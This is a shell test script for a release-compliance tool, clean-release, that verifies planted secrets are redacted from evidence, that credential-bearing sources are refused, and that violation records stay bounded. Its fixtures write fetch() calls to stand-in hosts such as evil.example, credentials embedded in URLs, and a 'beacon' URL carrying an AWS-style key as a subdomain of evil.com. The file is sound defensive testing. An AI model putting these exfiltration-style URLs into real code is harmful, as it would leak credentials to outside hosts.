#!/bin/sh
# t26-secrets: no secret the artifacts carry reaches the evidence in clear —
# not in an excerpt, not in a message, not in any object or local file:
# credentials in URLs (user:password@host) and secrets used as host names.
. "$(dirname "$0")/lib.sh"

# The planted secrets, each a string that must appear nowhere.
SECRETS="Hunter2SuperSecret AKIAIOSFODNN7EXAMPLE TokenZ9QwertyUiop"

test_expect_success 'setup: the acme policy; an artifact with credentials in URLs and an AWS key as a host name' '
	new_repo repo
	cd repo
	publish_acme_policy
	mkdir -p art/dist
	{
		printf "db = \"https://deploy:Hunter2SuperSecret@db.evil.com/prod\"\n"
		printf "beacon https://AKIAIOSFODNN7EXAMPLE.evil.com/x\n"
		printf "fetch(\"https://ci:TokenZ9QwertyUiop@cdn.evil.example/a.js\")\n"
	} >art/dist/app.js
	printf "dist/app.js build:acme-ci/web/1\n" | artifacts_doc >art/artifacts.json
	mid=$(make_candidate c1 art/artifacts.json)
	test_exit 1 clean-release compliance run --candidate-id c1 --manifest-id $mid --actor release-bot --json
	echo $(jq -r .run_id "$TRASH/.cr-out") >../run
'

test_expect_success 'the endpoint findings name the real hosts, never the credentials' '
	cd repo
	clean-release compliance violations --run-id $(cat ../run) --json >../v.json
	jq -r ".violations[] | select(.rule_id == \"external-url\") | .message" ../v.json | sort >../hosts
	grep -x "endpoint host db.evil.com is not an allowed host" ../hosts
	grep -x "endpoint host cdn.evil.example is not an allowed host" ../hosts
	grep -x "endpoint host AKIA\*\{16\}.evil.com is not an allowed host" ../hosts
	jq -e "[.violations[] | select(.rule_id == \"no-aws-access-key\")] | length == 1" ../v.json >/dev/null
	jq -r ".violations[].excerpt" ../v.json | grep -F "https://depl" | grep -vF "Hunter2"
'

test_expect_success 'no planted secret is in any object of the repository or any file under .git/clean-release' '
	cd repo
	test_exit 1 clean-release compliance report --run-id $(cat ../run) --json
	cp "$TRASH/.cr-out" ../report.json
	git cat-file --batch-all-objects --batch >../all-objects
	test -s ../all-objects
	for s in $SECRETS; do
		if grep -aF "$s" ../all-objects >/dev/null; then echo "secret $s is in an object" >&2; false; fi
		if grep -raF "$s" .git/clean-release >/dev/null; then echo "secret $s is in .git/clean-release" >&2; false; fi
		if grep -aF "$s" ../v.json ../report.json >/dev/null; then echo "secret $s is in the output" >&2; false; fi
	done
'

test_expect_success 'a source that carries credentials is refused at import (exit 2, naming the artifact), writing nothing' '
	cd repo
	clean-release -q candidate register --candidate-id c2 --version 1.0.0 --source-snapshot v1.2.0-rc1 --actor release-bot
	printf "dist/app.js https://ci:SrcSecret42@registry.evil.example/pkg\n" | artifacts_doc >../creds.json
	before=$(git rev-parse refs/clean-release/ledger)
	objects=$(git count-objects -v | awk "/^count/ { print \$2 }")
	test_exit 2 clean-release candidate import-artifacts --candidate-id c2 --input ../creds.json --artifact-root art \
		--actor release-bot
	grep "artifact dist/app.js: its source carries credentials" "$TRASH/.cr-err"
	test "$(git rev-parse refs/clean-release/ledger)" = "$before"
	test "$(git count-objects -v | awk "/^count/ { print \$2 }")" = "$objects"
	! git cat-file --batch-all-objects --batch | grep -aF SrcSecret42 >/dev/null
'

test_expect_success 'bounded evidence: 1,000,000 warnings of one rule in one 10 MB artifact record 1,000 and one summary; the totals stay true' '
	cd repo
	mkdir -p ../marker/dist
	yes "XXX-DEBUG" | head -n 1000000 >../marker/dist/debug.log
	printf "dist/debug.log build:acme-ci/web/1\n" | artifacts_doc >../marker/artifacts.json
	clean-release -q candidate register --candidate-id m1 --version 1.0.0 --source-snapshot v1.2.0-rc1 --actor release-bot
	clean-release -q candidate import-artifacts --candidate-id m1 --input ../marker/artifacts.json --artifact-root ../marker \
		--actor release-bot
	mid=$(clean-release --json manifest build --candidate-id m1 --actor release-bot | jq -r .manifest_id)
	test_exit 0 clean-release --json compliance run --candidate-id m1 --manifest-id $mid --actor release-bot
	run=$(jq -r .run_id "$TRASH/.cr-out")
	clean-release compliance report --run-id $run --json >../m1-report.json
	test "$(jq -r ".violation_counts.total, .violation_counts.warning" ../m1-report.json | tr "\n" " ")" = "1000000 1000000 "
	clean-release compliance violations --run-id $run --json >../m1-v.json
	test "$(jq ".violations | length" ../m1-v.json)" = 1001
	jq -r ".violations[-1].message" ../m1-v.json | grep "^999000 more violations of rule debug-marker in this artifact are not recorded (limits.max_violations_per_rule_artifact: 1000)"
	test "$(jq -r "[.violations[] | select(.rule_id == \"debug-marker\")] | length" ../m1-v.json)" = 1001
	test "$(jq -r ".violations[-1].left_out" ../m1-v.json)" = 999000
	test "$(jq -r "[.violations[] | select(.left_out)] | length" ../m1-v.json)" = 1
	test_exit 0 clean-release verify
'

test_expect_success 'bounded evidence per run: past limits.max_violations_per_run one summary per stage and severity, true totals, still BLOCKED' '
	cd repo
	publish_acme_policy ".version = 4 | .limits.max_violations_per_run = 50"
	mkdir -p ../many/dist
	i=0
	while [ $i -lt 30 ]; do
		{ yes "XXX-DEBUG" | head -n 5; printf "fetch(\"https://evil.example/%d\")\nfetch(\"https://evil.example/b\")\n" $i; } \
			>../many/dist/f$i.js
		printf "dist/f%d.js build:acme-ci/web/1\n" $i
		i=$((i + 1))
	done | artifacts_doc >../many/artifacts.json
	clean-release -q candidate register --candidate-id m2 --version 1.0.0 --source-snapshot v1.2.0-rc1 --actor release-bot
	clean-release -q candidate import-artifacts --candidate-id m2 --input ../many/artifacts.json --artifact-root ../many \
		--actor release-bot
	mid=$(clean-release --json manifest build --candidate-id m2 --actor release-bot | jq -r .manifest_id)
	test_exit 1 clean-release --json compliance run --candidate-id m2 --manifest-id $mid --jobs 4 --actor release-bot
	run=$(jq -r .run_id "$TRASH/.cr-out")
	test_exit 1 clean-release compliance report --run-id $run --json
	cp "$TRASH/.cr-out" ../m2-report.json
	test "$(jq -r ".final_status" ../m2-report.json)" = BLOCKED
	test "$(jq -c ".violation_counts | [.total, .blocker, .warning]" ../m2-report.json)" = "[210,60,150]"
	test "$(jq -c ".violation_counts.by_stage | [.DATA_PURITY, .NO_EXTERNAL_ENDPOINTS]" ../m2-report.json)" = "[150,60]"
	clean-release compliance violations --run-id $run --json >../m2-v.json
	validate_openapi ViolationList ../m2-v.json
	test "$(jq "[.violations[] | select(.left_out | not)] | length" ../m2-v.json)" = 50
	jq -e "[.violations[] | select(.left_out)] | length == 2 and all(.rule_id == \"builtin:run-violations-not-recorded\" and .artifact_path == null)" ../m2-v.json >/dev/null
	jq -e "[.violations[] | .left_out // 1] | add == 210" ../m2-v.json >/dev/null
	jq -e "[.violations[] | select(.severity == \"BLOCKER\") | .left_out // 1] | add == 60" ../m2-v.json >/dev/null
	jq -r ".violations[] | select(.left_out and .severity == \"BLOCKER\") | .message" ../m2-v.json |
		grep -E "^[0-9]+ more BLOCKER violations of stage NO_EXTERNAL_ENDPOINTS are not recorded \(limits.max_violations_per_run: 50\)"
	test_exit 0 clean-release verify
'
